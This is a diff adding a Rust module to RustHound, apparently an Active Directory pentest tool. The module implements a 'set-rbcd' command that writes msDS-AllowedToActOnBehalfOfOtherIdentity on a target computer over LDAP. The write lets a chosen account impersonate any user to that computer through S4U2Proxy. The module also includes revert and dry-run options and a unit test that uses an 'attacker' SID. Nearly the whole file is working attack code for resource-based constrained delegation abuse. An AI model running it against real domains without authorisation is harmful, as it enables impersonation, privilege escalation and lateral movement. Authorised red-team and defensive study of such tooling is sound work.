@@ -0,0 +1,126 @@
+//! Resource-based constrained delegation write helper (`rusthound set-rbcd`)
+//!
+//! With a write access to msDS-AllowedToActOnBehalfOfOtherIdentity of one computer (GenericWrite, WriteProperty,
+//! AllowedToAct edges...), one account with a SPN like a machine account can be allowed to impersonate any user
+//! to this computer with S4U2Proxy. The descriptor is serialized with the ACEs already set on the target and one
+//! access allowed ACE for the account, like `Set-ADComputer -PrincipalsAllowedToDelegateToAccount` does.
+//! `--revert` removes the ACE of the account, and the attribute once it is the last one.
+use colored::Colorize;
+use ldap3::Mod;
+use log::info;
+
+use std::collections::HashSet;
+use std::str::FromStr;
+
+use crate::args::{Options, SetRbcdOptions};
+use crate::attack::{connect, find_account, get_domain_dn, get_object_sid, write, WriteOperation};
+use crate::enums::secdesc::{parse_simple_dacl, serialize_security_descriptor, AccessMask, SimpleAce};
+use crate::enums::sid::Sid;
+use crate::errors::{Result, RustHoundError};
+
+/// Attribute of the accounts allowed to delegate to the computer
+const ALLOWED_TO_ACT: &str = "msDS-AllowedToActOnBehalfOfOtherIdentity";
+/// Owner of the descriptor, BUILTIN\Administrators
+const ALLOWED_TO_ACT_OWNER: &str = "S-1-5-32-544";
+
+/// Function to add or remove (revert) the ACE of one account in the ACEs of msDS-AllowedToActOnBehalfOfOtherIdentity.
+/// None if the ACEs don't change: account already allowed, or not allowed to revert.
+pub fn update_rbcd_aces(aces: &[SimpleAce], sid: &Sid, revert: bool) -> Option<Vec<SimpleAce>>
+{
+   let granted = aces.iter().any(|ace| ace.sid == *sid);
+   match (revert, granted) {
+      (false, false) => {
+         let mut aces = aces.to_vec();
+         aces.push(SimpleAce::allowed(AccessMask::GENERIC_ALL.bits(), sid.to_owned()));
+         Some(aces)
+      },
+      (true, true) => Some(aces.iter().filter(|ace| ace.sid != *sid).cloned().collect()),
+      _ => None,
+   }
+}
+
+/// Function to write msDS-AllowedToActOnBehalfOfOtherIdentity of the target for the granted account.
+pub async fn set_rbcd(common_args: &Options, set_rbcd_args: &SetRbcdOptions) -> Result<()>
+{
+   let domain_dn = get_domain_dn(&common_args.domain);
+   let mut ldap = connect(common_args).await?;
+
+   let target = find_account(&mut ldap, &domain_dn, &set_rbcd_args.target, vec![ALLOWED_TO_ACT]).await?;
+   let grant = find_account(&mut ldap, &domain_dn, &set_rbcd_args.grant, vec!["objectSid"]).await?;
+   let sid = get_object_sid(&grant).ok_or(RustHoundError::WriteError {
+      dn: grant.dn.to_owned(),
+      reason: "objectSid not readable".to_string(),
+   })?;
+
+   // ACEs already set on the target are kept
+   let aces = match target.bin_attrs.get(ALLOWED_TO_ACT).and_then(|values| values.first()) {
+      Some(nt) => parse_simple_dacl(nt).map_err(|reason| RustHoundError::WriteError { dn: target.dn.to_owned(), reason })?,
+      None => Vec::new(),
+   };
+   let aces = match update_rbcd_aces(&aces, &sid, set_rbcd_args.revert) {
+      Some(aces) => aces,
+      None => {
+         info!("{} {} allowed to act on behalf of other identity on {}, nothing to do",
+            set_rbcd_args.grant.bold(),
+            if set_rbcd_args.revert { "isn't" } else { "is already" },
+            set_rbcd_args.target.bold(),
+         );
+         return Ok(())
+      }
+   };
+
+   let modification = match aces.is_empty() {
+      true => Mod::Delete(ALLOWED_TO_ACT.as_bytes().to_vec(), HashSet::new()),
+      false => {
+         let owner = Sid::from_str(ALLOWED_TO_ACT_OWNER).unwrap();
+         let nt = serialize_security_descriptor(Some(&owner), None, &aces);
+         Mod::Replace(ALLOWED_TO_ACT.as_bytes().to_vec(), vec![nt].into_iter().collect())
+      }
+   };
+   let operation = WriteOperation {
+      add: false,
+      dn: target.dn.to_owned(),
+      mods: vec![modification],
+      sd_flags: None,
+      cleanup: format!("rusthound set-rbcd --target '{}' --grant '{}'{}",
+         set_rbcd_args.target,
+         set_rbcd_args.grant,
+         if set_rbcd_args.revert { "" } else { " --revert" },
+      ),
+   };
+   write(&mut ldap, common_args, &operation).await?;
+   if common_args.dry_run {
+      ldap.unbind().await?;
+      return Ok(())
+   }
+
+   info!("{} {} {} on {}",
+      if set_rbcd_args.revert { "Removed" } else { "Allowed" },
+      set_rbcd_args.grant.bold().green(),
+      sid,
+      target.dn.bold(),
+   );
+   info!("Accounts allowed to act on behalf of other identity: {}",
+      aces.iter().map(|ace| ace.sid.to_string()).collect::<Vec<String>>().join(", "),
+   );
+   ldap.unbind().await?;
+   Ok(())
+}
+
+#[test]
+#[rustfmt::skip]
+pub fn test_update_rbcd_aces() {
+   let attacker = Sid::from_str("S-1-5-21-1-2-3-1105").unwrap();
+   let other = Sid::from_str("S-1-5-21-1-2-3-1106").unwrap();
+   let aces = vec![SimpleAce::allowed(0x000F01FF, other.to_owned())];
+
+   let granted = update_rbcd_aces(&aces, &attacker, false).unwrap();
+   assert_eq!(granted.len(), 2);
+   assert_eq!(granted[1].sid, attacker);
+   assert_eq!(update_rbcd_aces(&granted, &attacker, false), None);
+
+   let reverted = update_rbcd_aces(&granted, &attacker, true).unwrap();
+   assert_eq!(reverted, aces);
+   assert_eq!(update_rbcd_aces(&reverted, &attacker, true), None);
+   assert!(update_rbcd_aces(&aces, &other, true).unwrap().is_empty());
+}